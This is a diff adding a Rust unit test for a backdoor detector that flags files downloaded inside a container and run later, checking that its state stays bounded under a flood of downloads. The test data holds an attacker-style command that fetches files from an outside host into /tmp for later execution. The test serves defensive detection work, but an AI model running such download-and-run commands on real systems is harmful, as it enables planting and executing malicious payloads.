@@ -251,6 +251,25 @@ fn a_downloaded_file_run_later_is_a_backdoor_artifact() {
 }
 
 #[test]
+fn one_container_keeps_its_newest_downloads_only_and_short_command_lines() {
+    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
+    let c = Some("c1");
+    let padding = "x".repeat(4000);
+    // An attacker's flood of downloads in one container: 300, each with a long command line.
+    let flood: Vec<NodeEvent> =
+        (0..300).map(|n| exec_at(&format!("wget -O /tmp/f{n} http://203.0.113.5/{n}?{padding}"), c, T + n)).collect();
+    assert_eq!(feed(&mut detector, &flood), 0);
+    let state = detector.snapshot();
+    let downloads = state["keys"].as_object().unwrap().values().next().unwrap().as_object().unwrap();
+    assert_eq!(downloads.len(), 128);
+    assert!(downloads.values().all(|d| d["command"].as_str().unwrap().len() <= 512));
+    assert!(serde_json::to_vec(&state).unwrap().len() < 1 << 20, "inside one changelog record");
+    // The newest are the ones kept: the last one run fires, the first one no longer does.
+    assert_eq!(feed(&mut detector, &[exec_at("/tmp/f299", c, T + 1_000)]), 1);
+    assert_eq!(feed(&mut detector, &[exec_at("/tmp/f0", c, T + 1_001)]), 0);
+}
+
+#[test]
 fn downloads_never_run_run_too_late_or_elsewhere_are_not() {
     let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
     let never_run = [
